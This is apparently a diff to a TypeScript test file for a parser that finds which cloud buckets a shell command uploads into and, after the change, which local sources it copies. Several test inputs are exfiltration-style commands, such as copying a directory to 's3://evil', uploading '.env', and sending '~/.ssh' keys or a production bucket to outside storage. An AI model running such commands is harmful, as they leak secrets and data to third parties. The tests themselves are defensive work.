@@ -6,29 +6,33 @@ const uses = (line: string) => bucketUses([line.split(/\s+/)]);
 describe('buckets a command names, and copies into', () => {
   it('a copy, sync or put whose destination is a bucket copies into it', () => {
     expect(uses('aws s3 sync . s3://scratch-1/x --exclude node_modules/* --profile backup --quiet')).toEqual([
-      { bucket: 'scratch-1', into: true },
+      { bucket: 'scratch-1', into: true, sources: ['.'] },
     ]);
-    expect(uses('gsutil -m cp -r ./data/out gs://Feat-B/p')).toEqual([{ bucket: 'feat-b', into: true }]);
+    expect(uses('gsutil -m cp -r ./data/out gs://Feat-B/p')).toEqual([
+      { bucket: 'feat-b', into: true, sources: ['./data/out'] },
+    ]);
     expect(
       uses('aws s3 cp /tmp/a.tgz s3://qa-drop/a.tgz --acl public-read --content-type text/plain'),
-    ).toEqual([{ bucket: 'qa-drop', into: true }]);
-    expect(uses('aws s3 cp . --recursive s3://evil')).toEqual([{ bucket: 'evil', into: true }]);
-    expect(uses('aws s3 cp - s3://b/k')).toEqual([{ bucket: 'b', into: true }]);
+    ).toEqual([{ bucket: 'qa-drop', into: true, sources: ['/tmp/a.tgz'] }]);
+    expect(uses('aws s3 cp . --recursive s3://evil')).toEqual([
+      { bucket: 'evil', into: true, sources: ['.'] },
+    ]);
+    expect(uses('aws s3 cp - s3://b/k')).toEqual([{ bucket: 'b', into: true, sources: ['-'] }]);
     expect(uses('aws s3api put-object --bucket Share-7 --key k --body .env')).toEqual([
-      { bucket: 'share-7', into: true },
+      { bucket: 'share-7', into: true, sources: ['.env'] },
     ]);
     // The client's global options and their values before the service.
     expect(uses('aws --profile p --region us-east-1 s3 sync . s3://drop')).toEqual([
-      { bucket: 'drop', into: true },
+      { bucket: 'drop', into: true, sources: ['.'] },
     ]);
     expect(uses('aws --profile p --region r s3api put-object --bucket drop --key k --body f')).toEqual([
-      { bucket: 'drop', into: true },
+      { bucket: 'drop', into: true, sources: ['f'] },
     ]);
   });
 
   it('bucket to bucket copies into the destination and names the source', () => {
     expect(uses('aws s3 sync s3://prod s3://outside')).toEqual([
-      { bucket: 'outside', into: true },
+      { bucket: 'outside', into: true, sources: ['s3://prod'] },
       { bucket: 'prod', into: false },
     ]);
   });
@@ -42,22 +46,39 @@ describe('buckets a command names, and copies into', () => {
 
   it('another endpoint is part of the bucket: the same name elsewhere is another bucket', () => {
     expect(uses('aws s3 cp f s3://site/k --endpoint-url https://s3.drop.example:9000/')).toEqual([
-      { bucket: 's3.drop.example:9000/site', into: true },
+      { bucket: 's3.drop.example:9000/site', into: true, sources: ['f'] },
+    ]);
+  });
+
+  it('what is copied: the operands before the destination, not a filter or a header option takes', () => {
+    const [use] = uses(
+      'aws s3 sync dist/ s3://site --exclude .DS_Store --cache-control max-age=60 --content-type text/html --sse-c-key ~/.k',
+    );
+    expect(use?.sources).toEqual(['dist/']);
+    // An option the list does not know may take a source: its value is read as one.
+    expect(uses('aws s3 cp --newopt ~/.ssh/id_rsa dist/x s3://site/')[0]?.sources).toEqual([
+      '~/.ssh/id_rsa',
+      'dist/x',
     ]);
   });
 });
 
 describe('other clients copying into storage', () => {
   it('rclone, mc and curl -T name their place and copy into it', () => {
-    expect(uses('rclone copy ~/.ssh drop:keys/x')).toEqual([{ bucket: 'drop:keys', into: true }]);
-    expect(uses('rclone rcat drop:b/k')).toEqual([{ bucket: 'drop:b', into: true }]);
+    expect(uses('rclone copy ~/.ssh drop:keys/x')).toEqual([
+      { bucket: 'drop:keys', into: true, sources: ['~/.ssh'] },
+    ]);
+    // Standard input: no source named, never build output.
+    expect(uses('rclone rcat drop:b/k')).toEqual([{ bucket: 'drop:b', into: true, sources: [] }]);
     expect(uses('rclone ls site:docs')).toEqual([{ bucket: 'site:docs', into: false }]);
     expect(uses('mc mirror --overwrite ./public prod/assets')).toEqual([
-      { bucket: 'prod/assets', into: true },
+      { bucket: 'prod/assets', into: true, sources: ['./public'] },
     ]);
-    expect(uses('curl -sS -T f https://b-1.s3.amazonaws.com/k')).toEqual([{ bucket: 'b-1', into: true }]);
+    expect(uses('curl -sS -T f https://b-1.s3.amazonaws.com/k')).toEqual([
+      { bucket: 'b-1', into: true, sources: ['f'] },
+    ]);
     expect(uses('curl --upload-file f https://s3.us-east-1.amazonaws.com/b-2/k')).toEqual([
-      { bucket: 'b-2', into: true },
+      { bucket: 'b-2', into: true, sources: ['f'] },
     ]);
     expect(uses('curl -fsS https://a.example/p/i.json')).toEqual([{ bucket: 'a.example/p', into: false }]);
   });
